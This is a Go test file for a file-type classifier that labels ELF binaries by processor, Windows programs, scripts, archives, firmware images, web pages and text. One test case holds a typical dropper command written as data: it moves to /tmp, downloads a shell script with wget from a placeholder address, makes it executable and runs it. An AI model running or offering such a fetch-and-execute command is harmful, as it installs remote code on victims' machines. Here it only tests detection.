package magic

import (
	"strings"
	"testing"
)

// elfHeader makes the first bytes of an ELF file.
func elfHeader(class, data byte, machine uint16) string {
	h := make([]byte, 52)
	copy(h, "\x7fELF")
	h[4], h[5], h[6] = class, data, 1
	if data == 1 {
		h[16], h[18], h[19] = 2, byte(machine), byte(machine>>8)
	} else {
		h[17], h[18], h[19] = 2, byte(machine>>8), byte(machine)
	}
	return string(h)
}

func dosHeader(offset byte, at string) string {
	h := make([]byte, int(offset)+len(at))
	copy(h, "MZ")
	if len(h) > 60 {
		h[60] = offset
	}
	copy(h[offset:], at)
	return string(h)
}

func TestClassify(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", Unknown},
		{"arm", elfHeader(1, 1, 40), "elf-arm"},
		{"mips big-endian", elfHeader(1, 2, 8), "elf-mips"},
		{"mips little-endian", elfHeader(1, 1, 8), "elf-mipsel"},
		{"x86", elfHeader(1, 1, 3), "elf-x86"},
		{"x86-64", elfHeader(2, 1, 62), "elf-x86-64"},
		{"arm64", elfHeader(2, 1, 183), "elf-arm64"},
		{"powerpc", elfHeader(1, 2, 20), "elf-ppc"},
		{"superh", elfHeader(1, 1, 42), "elf-sh"},
		{"sparc", elfHeader(1, 2, 2), "elf-sparc"},
		{"m68k", elfHeader(1, 2, 4), "elf-m68k"},
		{"unlisted processor", elfHeader(1, 1, 999), "elf-other"},
		{"cut elf", "\x7fELF\x01", "elf-other"},
		{"windows program", dosHeader(128, "PE\x00\x00"), PE},
		{"windows program, header further on", dosHeader(250, "")[:100], PE},
		{"MZ in a text", "MZ is short for Mark Zbikowski, whose initials begin every DOS program.", Text},
		{"shell script", "#!/bin/sh\necho hello\n", Script},
		{"env script", "#! /usr/bin/env python3\n", Script},
		{"php", "<?php echo 1;", Script},
		{"dropper without interpreter line", "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh", Script},
		{"one command in prose", "Use the program\nwget to download it.\n", Text},
		{"heading, not a script", "#!important\nbody {}", Text},
		{"zip", "PK\x03\x04\x14\x00", Zip},
		{"gzip", "\x1f\x8b\x08\x00", Gzip},
		{"tar", strings.Repeat("a", 257) + "ustar", Archive},
		{"u-boot image", "\x27\x05\x19\x56\x00\x00", Firmware},
		{"squashfs", "hsqs\x00\x00", Firmware},
		{"png", "\x89PNG\r\n\x1a\n\x00", Image},
		{"jpeg", "\xff\xd8\xff\xe0", Image},
		{"bitmap", "BM\x36\x00\x0c\x00\x00\x00\x00\x00\x36\x00\x00\x00", Image},
		{"BM in a text", "BMW builds cars in Munich.", Text},
		{"svg", "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", Image},
		{"pdf", "%PDF-1.7\n", PDF},
		{"html", "<!DOCTYPE html>\n<html>", HTML},
		{"html upper case", "\r\n<HTML><HEAD>", HTML},
		{"html after a comment", "<!-- made by hand -->\n<html>", HTML},
		{"xhtml", "<?xml version=\"1.0\"?><html xmlns=\"x\">", HTML},
		{"xml", "<?xml version=\"1.0\"?><root/>", XML},
		{"xml without declaration", "<root><a/></root>", XML},
		{"less-than in a text", "< 3", Text},
		{"json object", " {\"a\": 1}", JSON},
		{"json list", "[1, 2]", JSON},
		{"brace in a style sheet", "{ color: red }", Text},
		{"wave", "RIFF\x00\x00\x00\x00WAVEfmt ", Audio},
		{"webp", "RIFF\x00\x00\x00\x00WEBPVP8 ", Image},
		{"video", "\x00\x00\x00\x18ftypmp42", Video},
		{"font", "wOF2\x00\x01", Font},
		{"utf-8", "Grüße aus Köln\n", Text},
		{"utf-8 cut in a letter", "Grüße aus K\xc3", Text},
		{"latin-1", "Gr\xfc\xdfe aus dem Rheinland und von der Mosel", Text},
		{"binary", "\x00\x01\x02\x03\x04\x05", Unknown},
	}
	for _, tt := range tests {
		if got := Classify([]byte(tt.in)); got != tt.want {
			t.Errorf("%s: got %s, want %s", tt.name, got, tt.want)
		}
	}
}

func TestExecutable(t *testing.T) {
	for _, name := range []string{"elf-arm", "elf-other", PE, Script} {
		if !Executable(name) || !Software(name) {
			t.Errorf("%s is a program", name)
		}
	}
	for _, name := range []string{HTML, Unknown, Zip, "elf-", ""} {
		if Executable(name) {
			t.Errorf("%s is no program", name)
		}
	}
	if !Software(Gzip) || Software(HTML) {
		t.Error("archives are software, pages are not")
	}
}

func FuzzClassify(f *testing.F) {
	f.Add([]byte(elfHeader(1, 2, 8)))
	f.Add([]byte(dosHeader(128, "PE")))
	f.Add([]byte("cd /tmp; wget x"))
	f.Add([]byte("<!-- x --><html>"))
	f.Add([]byte("BM\x36\x00\x0c\x00\x00\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if Classify(b) == "" {
			t.Error("no name")
		}
	})
}

func BenchmarkClassify(b *testing.B) {
	page := []byte("<!DOCTYPE html>\n<html><head><title>x</title></head>" + strings.Repeat("<p>text</p>\n", 80))
	b.SetBytes(int64(min(len(page), Window)))
	b.ReportAllocs()
	for b.Loop() {
		Classify(page)
	}
}
